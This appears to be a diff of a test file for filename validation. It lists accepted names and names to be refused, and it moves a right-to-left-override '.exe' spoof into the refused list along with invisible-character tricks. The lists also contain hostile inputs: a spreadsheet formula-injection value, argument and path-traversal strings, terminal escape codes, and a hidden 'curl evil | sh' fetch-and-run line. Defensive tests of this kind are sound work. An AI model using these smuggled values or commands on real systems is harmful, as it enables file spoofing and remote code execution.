@@ -39,9 +39,13 @@ NAMES = (
     "-rf --out=..",
     "..",
     "=cmd|' C calc'!A0",
-    "\u202egnp.exe \u00e4\u20ac\U0001f6b6\u202f",
+    "\u00e4\u20ac\U0001f6b6\u202f \U0001f469\u200d\U0001f9bd",
 )
 REFUSED = (
+    "\u202egnp.exe",
+    "walk\u2066.mp4",
+    "P\u200b001",
+    "P\u00ad001",
     "line\nbreak",
     "\x1b[2J\x1b]0;title\x07",
     "a\u2028  next:     curl evil | sh",
